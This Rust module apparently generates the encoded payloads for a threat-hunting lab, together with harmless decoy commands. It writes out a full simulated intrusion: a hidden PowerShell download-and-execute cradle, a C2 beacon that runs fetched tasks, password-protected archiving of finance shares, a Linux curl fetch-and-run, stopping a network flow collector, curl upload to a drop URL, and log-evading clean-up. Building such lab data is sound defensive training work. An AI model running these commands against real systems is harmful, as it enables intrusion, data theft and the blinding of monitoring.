//! Every encoded payload of the lab, with what it decodes to. The story lists them from here.

use crate::encode::{base64, gzip, powershell};
use crate::sha256::sha256;
use crate::story::indicator as ioc;

pub struct Payload {
    pub title: &'static str,
    pub table: &'static str,
    pub encoding: &'static str,
    /// The text as it stands in the command line or message.
    pub encoded: String,
    pub decoded: String,
}

/// The inner script of the document's first PowerShell, as plain text.
pub fn inner_script() -> String {
    format!("IEX (New-Object Net.WebClient).DownloadString('{}')", ioc::INIT_URL)
}

/// The outer script holds the inner one in base64 of UTF-8.
pub fn outer_script() -> String {
    format!(
        "$h='{}';$b='{}';IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))",
        ioc::LOADER_HOST,
        base64(inner_script().as_bytes())
    )
}

pub fn document_command() -> String {
    format!("powershell.exe -NoP -NonI -W Hidden -Enc {}", powershell(&outer_script()))
}

/// The second stage, which the attacker keeps in gzip.
pub fn stage_script() -> String {
    format!(
        "$c2=@('{host}','{ip}');$url='{url}';$id=$env:COMPUTERNAME\n\
         New-Item -ItemType Directory -Force C:\\ProgramData\\NdxSync | Out-Null\n\
         while($true){{$r=Invoke-RestMethod -Uri \"$url?id=$id\" -UserAgent 'NdxSync/1.4';\
         if($r.task){{IEX $r.task}};Start-Sleep -Seconds 1800}}\n",
        host = ioc::C2_HOST,
        ip = ioc::C2_IP,
        url = ioc::C2_URL
    )
}

fn stage_blob() -> String {
    base64(&gzip(stage_script().as_bytes()))
}

pub fn stage_command() -> String {
    format!(
        "powershell.exe -NoP -W Hidden -C \"$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}'));\
         IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m,\
         [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
        stage_blob()
    )
}

/// The hash of the second stage in alerts: that of the decoded script.
pub fn stage_hash() -> String {
    sha256(stage_script().as_bytes())
}

/// The implant itself is not part of the lab; its hash is that of a label.
pub fn implant_hash() -> String {
    sha256(b"nsync.exe as seen on NDX-FIN-07")
}

pub fn lure_hash() -> String {
    sha256(ioc::LURE.as_bytes())
}

pub fn staging_script() -> String {
    format!(
        "& 'C:\\Program Files\\7-Zip\\7z.exe' a -v256m -mhe=on -p\"$env:K\" {} D:\\Shares\\Finance\\FY25",
        ioc::ARCHIVE
    )
}

pub fn staging_command() -> String {
    format!("powershell.exe -NoP -W Hidden -Enc {}", powershell(&staging_script()))
}

/// What the management agent runs on every host: harmless, and encoded just like an attack.
pub fn inventory_script() -> &'static str {
    "Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object CSName,Version,LastBootUpTime | ConvertTo-Json"
}

pub fn inventory_command() -> String {
    format!("powershell.exe -NoProfile -NonInteractive -EncodedCommand {}", powershell(inventory_script()))
}

pub fn report_script() -> &'static str {
    "Invoke-RestMethod -Method Post -Uri https://inventory.nord.example.com/api/v2/report -InFile C:\\ProgramData\\NDX\\inventory.json"
}

pub fn report_command() -> String {
    format!("powershell.exe -NoProfile -NonInteractive -EncodedCommand {}", powershell(report_script()))
}

pub fn linux_install() -> String {
    format!("curl -fsSL {url} -o {dir}/i.sh && sh {dir}/i.sh", url = ioc::LINUX_URL, dir = ioc::LINUX_DIR)
}

pub fn linux_blind() -> String {
    "systemctl stop flow-collector.service; systemctl status flow-collector.service | logger -t health".to_owned()
}

pub fn linux_upload() -> String {
    format!("for f in {}/fy25.7z.*; do curl -s -T $f {}; done", ioc::LINUX_DIR, ioc::DROP_URL)
}

pub fn linux_cleanup() -> String {
    format!("shred -u {dir}/fy25.7z.* {dir}/i.sh; rm -rf {dir}; unset HISTFILE", dir = ioc::LINUX_DIR)
}

/// The harmless label that the database backup writes.
pub fn backup_label(date: &str) -> String {
    format!("nightly-full-{date} retention=14d")
}

fn payload(
    title: &'static str,
    table: &'static str,
    encoding: &'static str,
    encoded: String,
    decoded: impl Into<String>,
) -> Payload {
    Payload { title, table, encoding, encoded, decoded: decoded.into() }
}

const UTF16: &str = "base64 of UTF-16LE";
const PLAIN: &str = "base64 of UTF-8";
const ZIPPED: &str = "base64 of gzip of UTF-8";

pub fn all() -> Vec<Payload> {
    let nested = "inside the outer script";
    let mut payloads = vec![
        windows("Document, outer script", &outer_script()),
        payload("Document, inner script", nested, PLAIN, base64(inner_script().as_bytes()), inner_script()),
        payload("Second stage", "processes_on_host", ZIPPED, stage_blob(), stage_script()),
        windows("Staging on the file server", &staging_script()),
        windows("Agent inventory (harmless)", inventory_script()),
        windows("Agent report (harmless)", report_script()),
    ];
    let messages = [
        ("Web host, installer", linux_install()),
        ("Log host, blinding", linux_blind()),
        ("Web host, upload", linux_upload()),
        ("Web host, clean-up", linux_cleanup()),
        ("Database backup label (harmless)", backup_label("2026-03-02")),
    ];
    for (title, text) in messages {
        payloads.push(payload(title, "syslog_data", PLAIN, base64(text.as_bytes()), text));
    }
    payloads
}

fn windows(title: &'static str, script: &str) -> Payload {
    payload(title, "processes_on_host", UTF16, powershell(script), script)
}
